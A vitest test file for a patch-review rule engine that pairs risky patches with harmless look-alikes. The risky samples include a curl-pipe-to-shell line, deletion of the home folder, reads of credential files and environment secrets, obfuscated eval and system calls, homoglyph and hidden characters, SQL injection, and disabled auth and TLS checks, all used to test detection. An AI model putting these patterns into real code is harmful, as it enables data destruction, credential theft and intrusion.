import { describe, expect, it } from "vitest";
import { reviewRules } from "../../../../src/acceptance/review/rules.js";
import { type Edit, findingsOf, flagsOf } from "../../../support/review-scene.js";

/** A rule, a patch that it is there for, and one that looks like it and is fine. */
interface Row {
  readonly rule: string;
  readonly bad: Edit;
  readonly good: Edit;
}

const python = (before: string, after: string): Edit => ({ path: "app.py", before, after });
const script = (before: string, after: string): Edit => ({ path: "app.js", before, after });
const added = (path: string, after: string): Edit => ({ path, before: null, after });
const manifest = (before: object, after: object): Edit => ({
  path: "package.json",
  before: JSON.stringify(before, null, 2),
  after: JSON.stringify(after, null, 2),
});
const lines = (count: number): string => Array.from({ length: count }, (_, index) => `row_${index} = ${index}\n`).join("");
const branches = (count: number): string =>
  `def rate(n):\n${Array.from({ length: count }, (_, index) => `    if n > ${index}:\n        n -= 1\n`).join("")}    return n\n`;
const body = (inner: string): string => `def work(items, other):\n    out = []\n    seen = set()\n${inner}    return out\n`;

const rows: readonly Row[] = [
  { rule: "secret-added", bad: python("", `KEY = "${"AKIA"}Q3EGRIWJ7ABCDEF2"\n`), good: python("", 'KEY = os.environ["AWS_KEY"]\n') },
  {
    rule: "secret-suspected",
    bad: script("", 'const apiKey = "q8Zr2LmX04TbVw9d";\n'),
    good: script("", 'const apiKey = "your-api-key-here-1";\nconst tokenKind = "identifier_token";\n'),
  },
  {
    rule: "secret-suspected",
    bad: added("config.toml", "url = 'https://admin:hunter22@db.internal/x'\n"),
    good: added("config.toml", "url = 'https://host:8080/x'\nurl2 = 'https://$USER:$PASS@host'\n"),
  },
  {
    rule: "credentials-read",
    bad: python("", 'open(os.path.expanduser("~/.aws/credentials")).read()\n'),
    good: python("", 'open(os.path.expanduser("~/notes.txt")).read()\n'),
  },
  { rule: "credentials-read", bad: script("", "send(JSON.stringify(process.env));\n"), good: script("", "send(JSON.stringify(process.env.PORT));\n") },
  { rule: "credentials-read", bad: python("", "print({**os.environ})\n"), good: python("", "run(line, env={**os.environ, 'A': '1'})\n") },
  {
    rule: "credentials-read",
    bad: python("", "for name in os.environ: print(name)\n"),
    good: python("", "for name in names: print(os.environ[name])\nif x in os.environ: pass\n"),
  },
  {
    rule: "credentials-read",
    bad: python("", "print(os.getenv('AWS_SECRET_ACCESS_KEY'))\n"),
    good: python("key = os.environ['GITHUB_TOKEN']\n", "key = os.environ.get('GITHUB_TOKEN')\nlevel = os.getenv('LOG_LEVEL')\n"),
  },
  { rule: "credentials-read", bad: script("", "send(process.env.NPM_TOKEN);\n"), good: script("", "send(process.env.PORT);\n") },
  { rule: "dangerous-call", bad: python("x = 1\n", "x = eval(text)\n"), good: python("x = 1\n", "x = ast.literal_eval(text)\nmodel.eval()\n") },
  {
    rule: "dangerous-call",
    bad: python("", "import yaml\nx = yaml.load(text)\n"),
    good: python("", "import yaml\nx = yaml.safe_load(text)\ny = yaml.load(text, Loader=yaml.SafeLoader)\n"),
  },
  { rule: "dangerous-call", bad: python("", "from os import system as start\nstart(line)\n"), good: python("", "system = platform.system()\n") },
  { rule: "dangerous-call", bad: python("", "from pickle import loads\nx = loads(data)\n"), good: python("", "from json import loads\nx = loads(data)\n") },
  { rule: "dangerous-call", bad: python("", "import subprocess\nsubprocess.run(line, shell=True)\n"), good: python("", "chart.run(line, shell=outer)\n") },
  { rule: "dangerous-call", bad: script("", "new Function(text)();\n"), good: script("", "const Function2 = make(text);\n") },
  {
    rule: "dangerous-call",
    bad: script("", 'import { exec as go } from "node:child_process";\ngo(line);\n'),
    good: script("", "const found = pattern.exec(line);\n"),
  },
  { rule: "dangerous-call", bad: script("", "box.innerHTML = text;\n"), good: script("", "box.textContent = text;\nconst copy = box.innerHTML;\n") },
  { rule: "dangerous-call", bad: script("", 'setTimeout("go()", 5);\n'), good: script("", "setTimeout(() => go(), 5);\n") },
  {
    rule: "dangerous-call",
    bad: { path: "app.jsx", before: "", after: "const a = <p dangerouslySetInnerHTML={{ __html: t }} />;\n" },
    good: { path: "app.jsx", before: "", after: "const a = <p title={t} />;\n" },
  },
  { rule: "dangerous-call", bad: python("", "import os\nrun = os.system\nrun(x)\n"), good: python("", "import os\nname = os.name\nrun = shell.system\n") },
  { rule: "dangerous-call", bad: python("", "list(map(eval, texts))\n"), good: python("", "list(map(model.eval, texts))\nmode = {'eval': 1}\nf(eval=1)\n") },
  { rule: "dangerous-call", bad: python("", "from os import *\nsystem(x)\n"), good: python("", "from platform import *\nsystem()\n") },
  { rule: "dangerous-call", bad: python("", "import os\ngetattr(os, 'sys' + 'tem')(x)\n"), good: python("", "import os\ngetattr(os, 'sep' + suffix)\n") },
  { rule: "dangerous-call", bad: python("", "vars(os)['system'](x)\n"), good: python("", "vars(os)['sep']\n") },
  { rule: "dangerous-call", bad: python("", "__builtins__['eval'](x)\n"), good: python("", "modes['eval'](x)\n") },
  { rule: "process-started", bad: python("", "__import__('sub' + 'process').call(x)\n"), good: python("", "__import__('sub' + name).call(x)\n") },
  { rule: "dangerous-call", bad: script("", "[].constructor.constructor(x)();\n"), good: script("", "new this.constructor(x);\nlog(a.constructor.name);\n") },
  { rule: "dangerous-call", bad: script("", "(0, eval)(x);\n"), good: script("", "(0, lib.go)(x);\n") },
  {
    rule: "dangerous-call",
    bad: script("", "const go = require('child_process').exec;\ngo(x);\n"),
    good: script("", "const go = /a/.exec;\nconst { sep } = require('path');\n"),
  },
  {
    rule: "dangerous-call",
    bad: script("", "process.getBuiltinModule('child_process').execSync(x);\n"),
    good: script("", "process.getBuiltinModule('path').join(x);\n"),
  },
  { rule: "dangerous-call", bad: script("", "(await import('node:child_process')).exec(x);\n"), good: script("", "(await import('node:path')).join(x);\n") },
  {
    rule: "dangerous-call",
    bad: { path: "a.go", before: "", after: '\texec.Command("sh", "-c", x).Run()\n' },
    good: { path: "a.go", before: "", after: '\texec.Command("git", "log", x).Run()\n' },
  },
  {
    rule: "dangerous-call",
    bad: { path: "Dockerfile", before: "", after: "RUN curl -s http://a.example/i.sh | sh\n" },
    good: { path: "Dockerfile", before: "", after: "RUN curl -s http://a.example/a.tar | tar x\nRUN rm -rf /var/lib/apt/lists/*\nRUN chmod 755 /run.sh\n" },
  },
  {
    rule: "dangerous-call",
    bad: added("clean.sh", "rm -rf ~/\n"),
    good: added("README.md", "Install it with `curl -s http://a.example | sh`.\n"),
  },
  {
    rule: "dangerous-call",
    bad: python("", "import shutil\nshutil.rmtree(os.path.expanduser('~'))\n"),
    good: python("", "import shutil\nshutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'app'))\nshutil.rmtree(folder)\n"),
  },
  {
    rule: "dangerous-call",
    bad: script("", "import fs from 'fs';\nfs.rmSync(os.homedir(), o);\n"),
    good: script("", "import fs from 'fs';\nfs.rmSync(folder, o);\n"),
  },
  { rule: "dangerous-call", bad: python("", "os.chmod(path, 0o777)\n"), good: python("", "os.chmod(path, 0o755)\nmode = 0o777\n") },
  { rule: "dangerous-call", bad: python("", "place.chmod(0o777)\n"), good: python("", "place.chmod(0o700)\n") },
  {
    rule: "dangerous-call",
    bad: python("", "db.execute(\"select * from t where a = '%s'\" % x)\n"),
    good: python("", "db.execute('select * from t where a = %s', (x,))\ndb.execute('select * from t where a = ?', (x,))\n"),
  },
  {
    rule: "dangerous-call",
    bad: python("", "db.execute(f'delete from t where id = {x}')\n"),
    good: python("", "db.execute(f'select {columns} from {table} where id = ?', (x,))\n"),
  },
  {
    rule: "dangerous-call",
    bad: python("", "db.execute('select * from t where name like {}'.format(x))\n"),
    good: python("", "log.info('select one from {}'.format(x))\n"),
  },
  {
    rule: "dangerous-call",
    bad: script("", "db.query('SELECT * FROM t WHERE id = ' + id);\n"),
    good: script("", "db.query('SELECT * FROM t WHERE id = $1', [id]);\ndb.query('SELECT * FROM ' + table);\n"),
  },
  {
    rule: "dangerous-call",
    bad: script("", `await db.query(\`UPDATE t SET a = '\${a}'\`);\n`),
    good: script("", `await sql\`UPDATE t SET a = \${a}\`;\n`),
  },
  {
    rule: "process-started",
    bad: python("", 'import subprocess as sp\nsp.check_output(["id"])\n'),
    good: python("", 'tasks.run(["id"])\nsubprocess_count = 1\n'),
  },
  { rule: "process-started", bad: script("", 'const cp = require("child_process");\ncp.spawn("id");\n'), good: script("", 'monsters.spawn("id");\n') },
  {
    rule: "network-added",
    bad: python("", "from urllib.request import urlopen\nurlopen(place)\n"),
    good: python("", "from urllib.parse import urlparse\nurlparse(place)\n"),
  },
  { rule: "network-added", bad: script("", "await fetch(place);\n"), good: script("", "await cache.fetch(place);\n") },
  {
    rule: "network-added",
    bad: script("", 'import http from "node:http";\nhttp.get(place);\n'),
    good: script("", "map.get(place);\nfunction fetch(row) { return row; }\nfetch(1);\n"),
  },
  {
    rule: "verification-disabled",
    bad: python("", "requests_like(url, verify=False)\n"),
    good: python("", "requests_like(url, verify=True)\ncheck(verify=path)\n"),
  },
  {
    rule: "verification-disabled",
    bad: python("", "import ssl\ncontext = ssl._create_unverified_context()\n"),
    good: python("", "import ssl\ncontext = ssl.create_default_context()\n"),
  },
  {
    rule: "verification-disabled",
    bad: script("", "connect({ rejectUnauthorized: false });\n"),
    good: script("", "connect({ rejectUnauthorized: true, retry: false });\n"),
  },
  { rule: "verification-disabled", bad: script("", 'process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = "0";\n'), good: script("", 'process.env["LEVEL"] = "0";\n') },
  { rule: "verification-disabled", bad: script("", 'read(token, { algorithms: ["none"] });\n'), good: script("", 'read(token, { algorithms: ["RS256"] });\n') },
  {
    rule: "guard-removed",
    bad: python("@login_required\ndef page(r):\n    return r\n", "def page(r):\n    return r\n"),
    good: python("@login_required\ndef page(r):\n    return r\n", "@login_required\ndef page(r):\n    return r.body\n"),
  },
  {
    rule: "verification-disabled",
    bad: script("", "res.setHeader('Access-Control-Allow-Origin', '*');\n"),
    good: script("", "res.setHeader('Access-Control-Allow-Origin', origin);\nres.setHeader('Accept', '*');\n"),
  },
  {
    rule: "verification-disabled",
    bad: script("", "app.use(cors({ origin: '*' }));\n"),
    good: script("", "app.use(cors({ origin: known }));\nplot({ origin: '*' });\n"),
  },
  { rule: "verification-disabled", bad: python("", "add(CORS, allow_origins=['*'])\n"), good: python("", "add(CORS, allow_origins=['https://a.example'])\n") },
  {
    rule: "error-swallowed",
    bad: python("", "try:\n    go()\nexcept Exception:\n    pass\n"),
    good: python("", "try:\n    go()\nexcept KeyError:\n    pass\ntry:\n    go()\nexcept Exception as error:\n    log(error)\n"),
  },
  { rule: "error-swallowed", bad: script("", "try { go(); } catch {}\n"), good: script("", "try { go(); } catch { /* It is gone already. */ }\n") },
  {
    rule: "guard-removed",
    bad: python("def is_admin(u):\n    return u.role == 'admin'\n", "def is_admin(u):\n    return u.role == 'admin' or True\n"),
    good: python("def is_admin(u):\n    return u.role == 'admin'\n", "def is_admin(u):\n    return u.role == 'admin' or u.is_owner\n"),
  },
  {
    rule: "guard-removed",
    bad: python("def is_admin(u):\n    return u.role == 'admin'\n", "is_admin = lambda u: True\n"),
    good: python("def is_admin(u):\n    return u.role == 'admin'\n", "is_admin = lambda u: u.role == 'admin'\nalways = lambda u: True\n"),
  },
  {
    rule: "guard-removed",
    bad: python("def f(u):\n    if not is_admin(u):\n        raise PermissionError\n", "def f(u):\n    if is_admin(u):\n        raise PermissionError\n"),
    good: python(
      "def f(u):\n    if not is_admin(u):\n        raise PermissionError\n",
      "def f(u):\n    if not is_admin(u.owner):\n        raise PermissionError\n    if is_admin(u):\n        log(u)\n",
    ),
  },
  {
    rule: "guard-removed",
    bad: script("function f(u) { if (!isAdmin(u)) throw new Error(); }\n", "function f(u) { if (isAdmin(u)) throw new Error(); }\n"),
    good: script("function f(u) { if (!isAdmin(u)) throw new Error(); }\n", "function f(u) { if (!isAdmin(u)) throw new Refused(u); }\n"),
  },
  {
    rule: "guard-removed",
    bad: python(
      "def f(root, p):\n    full = os.path.realpath(p)\n    if not full.startswith(root):\n        raise ValueError\n    return open(full)\n",
      "def f(root, p):\n    full = os.path.realpath(p)\n    return open(full)\n",
    ),
    good: python(
      "def f(root, p):\n    full = os.path.realpath(p)\n    if not full.startswith(root):\n        raise ValueError\n    return open(full)\n",
      "def f(root, p):\n    full = pathlib.Path(p).resolve()\n    if not full.is_relative_to(root):\n        raise ValueError\n    return open(full)\n",
    ),
  },
  {
    rule: "guard-removed",
    bad: script("app.get('/x', requireAuth, show);\n", "app.get('/x', show);\n"),
    good: script("app.get('/x', requireAuth, show);\n", "app.get('/x', requireAuth, showAll);\n"),
  },
  {
    rule: "guard-removed",
    bad: python("ok = hmac.compare_digest(a, b)\n", "ok = a == b\n"),
    good: python("ok = hmac.compare_digest(a, b)\n", "ok = hmac.compare_digest(a, c)\n"),
  },
  {
    rule: "guard-removed",
    bad: python("def verify_token(t):\n    return t in known\n", "def verify_token(t):\n    return True\n"),
    good: python("def is_even(n):\n    return n % 2\n", "def is_even(n):\n    return n % 2 == 0\n"),
  },
  {
    rule: "weak-crypto",
    bad: python("import hashlib\nd = hashlib.sha256(p)\n", "import hashlib\nd = hashlib.md5(p)\n"),
    good: python("import hashlib\nd = hashlib.md5(p)\n", "import hashlib\nd = hashlib.sha256(p)\ntag = hashlib.md5(p, usedforsecurity=False)\n"),
  },
  {
    rule: "weak-crypto",
    bad: script("", 'import crypto from "crypto";\ncrypto.createHash("sha1");\n'),
    good: script("", 'import crypto from "crypto";\ncrypto.createHash("sha256");\n'),
  },
  { rule: "weak-crypto", bad: script("", "const sessionToken = Math.random().toString(36);\n"), good: script("", "const dice = Math.random();\n") },
  { rule: "check-disabled", bad: added("jobs.yml", "steps:\n  - run: npm test || true\n"), good: added("jobs.yml", "steps:\n  - run: npm test || exit 1\n") },
  { rule: "check-disabled", bad: added("jobs.yml", "continue-on-error: true\n"), good: added("jobs.yml", "continue-on-error: false\n") },
  {
    rule: "new-dependency",
    bad: manifest({ dependencies: { a: "1" } }, { dependencies: { a: "1", "left-pad": "1.0.0" } }),
    good: manifest({ dependencies: { a: "1" } }, { dependencies: { a: "1" }, description: "left-pad" }),
  },
  { rule: "new-dependency", bad: added("requirements.txt", "evil-package==1.0\n"), good: added("requirements.txt", "# nothing is needed\n") },
  {
    rule: "new-dependency",
    bad: { path: "pyproject.toml", before: "", after: 'dependencies = [\n  "evil>=1",\n]\n' },
    good: { path: "pyproject.toml", before: "", after: 'line-length = 120\nversion = "1.2.3"\n' },
  },
  { rule: "new-dependency", bad: python("", "import numpy_like\n"), good: python("", "import itertools\nfrom . import near\nfrom helper import f\n") },
  {
    rule: "new-dependency",
    bad: script("", 'import pad from "left-pad";\n'),
    good: script("", 'import fs from "fs";\nimport path from "node:path";\nimport { a } from "./a.js";\nimport known from "known/part";\n'),
  },
  {
    rule: "install-script",
    bad: manifest({ scripts: { test: "node --test" } }, { scripts: { test: "node --test", postinstall: "node x.js" } }),
    good: manifest({ scripts: { test: "node --test" } }, { scripts: { test: "node --test", draw: "node x.js" } }),
  },
  {
    rule: "install-script",
    bad: manifest({ scripts: { test: "node --test" } }, { scripts: { test: "node x.js && node --test" } }),
    good: manifest({ scripts: { test: "a" } }, { name: "n", scripts: { test: "a" } }),
  },
  { rule: "install-script", bad: added("sitecustomize.py", "x = 1\n"), good: added("customize.py", "x = 1\n") },
  {
    rule: "install-script",
    bad: { path: "setup.py", before: "setup()\n", after: "setup(cmdclass={'install': Hook})\n" },
    good: { path: "setup.py", before: "setup()\n", after: "setup(name='a')\n" },
  },
  { rule: "encoded-payload", bad: python("", `x = "${"QUJD".repeat(40)}"\n`), good: python("", `x = "${"a plain sentence, ".repeat(9)}"\n`) },
  { rule: "hidden-characters", bad: script("", "if (role === 'user\u202e \u2066') go();\n"), good: script("", "const family = '👩‍👧 ❤️ Привет';\n") },
  { rule: "hidden-characters", bad: python("", "is_аdmin = True\n"), good: python("", "größe = 1\nmu = 'µs'\n") },
  { rule: "hidden-characters", bad: python("", "x = 'a\u200bb'\n"), good: python("x = 'a\u200bb'\n", "y = 1\nx = 'a b'\n") },
  { rule: "binary-added", bad: added("data.txt", "a\0b"), good: added("data.txt", "a b") },
  { rule: "oversized-addition", bad: added("big.py", lines(401)), good: added("big.py", lines(400)) },
  { rule: "oversized-addition", bad: added("long.txt", `${"word ".repeat(500)}\n`), good: added("long.txt", `${"word ".repeat(50)}\n`) },
  { rule: "complexity-growth", bad: python(branches(4), branches(12)), good: python(branches(12), branches(13)) },
  {
    rule: "quadratic-loop",
    bad: python(body(""), body("    for a in items:\n        for b in items:\n            out.append(a + b)\n")),
    good: python(body(""), body("    for a in items:\n        for b in other:\n            out.append(a + b)\n")),
  },
  {
    rule: "quadratic-loop",
    bad: python(body(""), body("    for a in items:\n        if a not in out:\n            out.append(a)\n")),
    good: python(body(""), body("    for a in items:\n        if a not in seen:\n            seen.add(a)\n")),
  },
  {
    rule: "quadratic-loop",
    bad: python(body(""), body("    while items:\n        out.append(items.pop(0))\n")),
    good: python(body(""), body("    while items:\n        out.append(items.pop())\n    items.insert(0, 1)\n")),
  },
  {
    rule: "quadratic-loop",
    bad: python(body(""), body("    for a in items:\n        out.append(sorted(items)[0])\n")),
    good: python(body(""), body("    for a in sorted(items):\n        out.append(a)\n")),
  },
  {
    rule: "quadratic-loop",
    bad: script("", "function f(rows) {\n  const seen = [];\n  rows.forEach((row) => { if (!seen.includes(row)) seen.push(row); });\n}\nf([]);\n"),
    good: script("", "function f(rows, text) {\n  rows.forEach((row) => { if (text.includes(row)) log(row); });\n}\nf([]);\n"),
  },
  {
    rule: "quadratic-loop",
    bad: script("", "const sum = rows.reduce((all, row) => { all = [...all, row]; return all; }, []);\n"),
    good: script("", "const sum = rows.reduce((all, row) => { all.push(row); return all; }, []);\n"),
  },
  {
    rule: "dead-hunk",
    bad: python("def f(n):\n    return n\n", "def f(n):\n    return n\n    n += 1\n"),
    good: python("def f(n):\n    return n\n", "def f(n):\n    if n:\n        return n\n    return 0\n"),
  },
  { rule: "dead-hunk", bad: script("go();\n", "go();\nif (false) stop();\n"), good: script("go();\n", "go();\nif (late) stop();\n") },
  { rule: "dead-hunk", bad: python("n = 1\n", "n = 1\nn = n\n"), good: python("n = 1\n", "n = 1\nn = m\n") },
  { rule: "dead-hunk", bad: python("n = 1\n", "# one\nn = 1\n"), good: python("n = 1\n", "# two\nn = 2\n") },
  {
    rule: "dead-hunk",
    bad: script("go();\n", "go();\nfunction never() { return 1; }\n"),
    good: script("go();\n", "go(often());\nfunction often() { return 1; }\nexport function outside() { return 1; }\n"),
  },
];

const project = { "helper.py": "", "a.js": 'import k from "known";\n' };

describe("a rule of the review", () => {
  it.each(rows.map((row) => [row.rule, row.bad.after?.trim().slice(-60), row] as const))("%s is there for …%s", async (rule, _, { bad, good }) => {
    expect(await flagsOf([bad], project)).toContain(rule);
    expect(await flagsOf([good], project)).not.toContain(rule);
  });

  it("has a bad patch and a look-alike good one, whichever it is", () => {
    expect([...new Set(rows.map(({ rule }) => rule))].sort()).toEqual(reviewRules.map(({ id }) => id).sort());
  });

  it("names the line of the patched file", async () => {
    const before = "import os\n\n\ndef f(n):\n    return n\n";
    const [finding] = await findingsOf([{ path: "app.py", before, after: before.replace("return n", "os.system(n)\n    return n") }]);
    expect(finding).toEqual({
      source: "dangerous-call",
      severity: "advice",
      file: "app.py",
      line: 5,
      claim: "The patch calls os.system, which runs a text as code: os.system(n)",
      evidence: null,
    });
  });

  it("does not hold against a patch what stood there before", async () => {
    const before = "def f(t):\n    return eval(t)\n";
    expect(await flagsOf([{ path: "app.py", before, after: before.replace("return eval(t)", "t = t.strip()\n    return eval(t)") }])).toEqual([]);
  });

  it("blocks only for what a promise of Heal's own forbids", () => {
    expect(reviewRules.filter(({ severity }) => severity === "block").map(({ id }) => id)).toEqual(["secret-added"]);
  });

  it("says nothing of small honest repairs", async () => {
    const repairs: Edit[] = [
      python("def mean(v):\n    return sum(v) / (len(v) + 1)\n", "def mean(v):\n    return sum(v) / len(v)\n"),
      script("export const first = (v) => v[1];\n", "export const first = (v) => v[0];\n"),
      python("def parse(s):\n    return s.split(' ')\n", "def parse(s):\n    if not s:\n        return []\n    return s.split()\n"),
      script("for (let i = 0; i <= n; i += 1) go(i);\n", "for (let i = 0; i < n; i += 1) go(i);\n"),
    ];
    for (const repair of repairs) expect(await flagsOf([repair])).toEqual([]);
  });
});
